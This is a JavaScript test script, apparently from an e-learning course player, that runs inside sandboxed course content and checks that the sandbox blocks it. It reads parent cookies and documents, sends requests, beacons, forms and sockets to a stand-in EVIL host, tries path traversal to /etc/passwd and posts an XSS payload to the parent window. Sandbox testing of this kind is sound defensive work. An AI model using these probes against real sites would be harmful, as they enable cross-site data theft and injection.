// Content that tries what foreign content must not be able to do. Each probe resolves to "" where it failed, as it should, and
// to what it got where it did not.
"use strict";

const SHELL = new URLSearchParams(location.search).get("shell");
const EVIL = new URLSearchParams(location.search).get("evil");
const OTHER = new URLSearchParams(location.search).get("other");

const got = (what) => `got ${String(what).slice(0, 200)}`;
const within = (promise, time = 3000) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, time, ""))]);

/** A probe that must throw, or give nothing. */
function denied(body) {
  try {
    const result = body();
    return result ? got(result) : "";
  } catch {
    return "";
  }
}

async function deniedLater(body) {
  try {
    const result = await within(body());
    return result ? got(result) : "";
  } catch {
    return "";
  }
}

const probes = {
  "top.document": () => denied(() => top.document.body.innerHTML),
  "top.cookie": () => denied(() => top.document.cookie || "a cookie jar"),
  "shell frame element": () => denied(() => parent.frameElement && "the shell's frame"),
  "shell window names": () => denied(() => top.location.href),
  "top.location": () => denied(() => { top.location = `${EVIL}/top`; return "no error"; }),
  "top.location.replace": () => denied(() => { top.location.replace(`${EVIL}/replace`); return "no error"; }),
  "own cookie": () => denied(() => { document.cookie = "a=1"; return document.cookie; }),
  "cookie for the shell's site": () => denied(() => { document.cookie = "sid=evil; domain=localhost; path=/"; return document.cookie; }),
  "document.domain": () => denied(() => { document.domain = "localhost"; return document.domain === "localhost" && "localhost"; }),
  "fetch shell GET": () => deniedLater(async () => (await fetch(`${SHELL}/`, { credentials: "include" })).text()),
  "fetch shell POST no-cors": () => deniedLater(async () =>
    (await fetch(`${SHELL}/launch`, { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ course: "x" }) })) && "sent"),
  "XHR to shell": () => denied(() => { const r = new XMLHttpRequest(); r.open("GET", `${SHELL}/`, false); r.send(); return r.responseText; }),
  "beacon to shell": () => deniedLater(async () => { navigator.sendBeacon(`${SHELL}/launch`, "x"); return ""; }),
  "fetch elsewhere": () => deniedLater(async () => (await fetch(`${EVIL}/fetch`, { mode: "no-cors" })) && "sent"),
  "beacon elsewhere": () => deniedLater(async () => { navigator.sendBeacon(`${EVIL}/beacon`, "x"); return ""; }),
  "image elsewhere": () => deniedLater(() => new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve("loaded");
    image.onerror = () => resolve("");
    image.src = `${EVIL}/image`;
  })),
  "script elsewhere": () => deniedLater(() => new Promise((resolve) => {
    const script = document.createElement("script");
    script.onload = () => resolve("loaded");
    script.onerror = () => resolve("");
    script.src = `${EVIL}/script`;
    document.head.append(script);
  })),
  "style elsewhere": () => deniedLater(() => new Promise((resolve) => {
    const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${EVIL}/style` });
    link.onload = () => resolve("loaded");
    link.onerror = () => resolve("");
    document.head.append(link);
  })),
  "form elsewhere": () => deniedLater(async () => {
    const form = Object.assign(document.createElement("form"), { method: "post", action: `${EVIL}/form` });
    const frame = Object.assign(document.createElement("iframe"), { name: "formtarget" });
    document.body.append(frame, form);
    form.target = "formtarget";
    form.submit();
    return "";
  }),
  "form to the shell": () => deniedLater(async () => {
    const form = Object.assign(document.createElement("form"), { method: "post", action: `${SHELL}/launch` });
    const frame = Object.assign(document.createElement("iframe"), { name: "shelltarget" });
    document.body.append(frame, form);
    form.target = "shelltarget";
    form.submit();
    return "";
  }),
  "frame elsewhere": () => deniedLater(async () => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: `${EVIL}/frame` }));
    return "";
  }),
  "frame of the shell": () => deniedLater(() => new Promise((resolve) => {
    const frame = Object.assign(document.createElement("iframe"), { src: `${SHELL}/` });
    frame.onload = () => { try { resolve(frame.contentDocument?.body?.innerText.includes("Parcours") && "the shell"); } catch { resolve(""); } };
    document.body.append(frame);
  })),
  "link prefetch elsewhere": () => deniedLater(async () => {
    document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: `${EVIL}/prefetch` }));
    return "";
  }),
  "web socket elsewhere": () => deniedLater(() => new Promise((resolve) => {
    try {
      const socket = new WebSocket(`${EVIL.replace("http", "ws")}/socket`);
      socket.onopen = () => resolve("open");
      socket.onerror = () => resolve("");
    } catch { resolve(""); }
  })),
  "event source elsewhere": () => deniedLater(() => new Promise((resolve) => {
    const source = new EventSource(`${EVIL}/events`);
    source.onopen = () => resolve("open");
    source.onerror = () => { source.close(); resolve(""); };
  })),
  "window.open": () => denied(() => { const w = window.open(`${EVIL}/popup`); return w && "a window"; }),
  "service worker": () => deniedLater(async () => (await navigator.serviceWorker.register("sw.js")) && "registered"),
  "shared worker of another course": () => deniedLater(async () => OTHER && new SharedWorker(`${OTHER}/player/player.mjs`) && "a worker"),
  "fetch another course": () => deniedLater(async () => OTHER && (await fetch(`${OTHER}/player/player.mjs`)).text()),
  "frame another course": () => deniedLater(() => new Promise((resolve) => {
    const frame = Object.assign(document.createElement("iframe"), { src: `${OTHER}/player/player.mjs` });
    frame.onload = () => { try { resolve(frame.contentDocument?.body?.innerText); } catch { resolve(""); } };
    document.body.append(frame);
  })),
  "broadcast to another course": () => deniedLater(async () => {
    const channel = new BroadcastChannel("parcours");
    return new Promise((resolve) => { channel.onmessage = (event) => resolve(event.data); channel.postMessage("hello"); setTimeout(resolve, 500, ""); });
  }),
  "another attempt's pass": () => deniedLater(async () => {
    const answer = await fetch(`/a/${"0".repeat(64)}/commit`, { method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" });
    return answer.status !== 404 && answer.status !== 400 && answer.status;
  }),
  "lists of the server": () => deniedLater(async () => {
    for (const path of ["/", "/courses/x", "/api/import", "/a/", "/assets/style.css", "/../../etc/passwd", "/a/x/pkg/%2e%2e/%2e%2e/etc/passwd"]) {
      const answer = await fetch(path);
      if (answer.ok) return path;
    }
    return "";
  }),
  "escape by a message": () => deniedLater(async () => {
    parent.parent.postMessage({ type: "moved" }, "*");
    parent.parent.postMessage({ type: "saved", waiting: 0, refused: 0, text: "<img src=x onerror=alert(1)>" }, "*");
    return "";
  }),
  "camera": () => deniedLater(async () => (await navigator.mediaDevices.getUserMedia({ video: true })) && "a camera"),
  "geolocation": () => deniedLater(() => new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("here"), () => resolve("")))),
};

async function run() {
  const results = {};
  for (const [name, probe] of Object.entries(probes)) results[name] = await probe();
  return results;
}
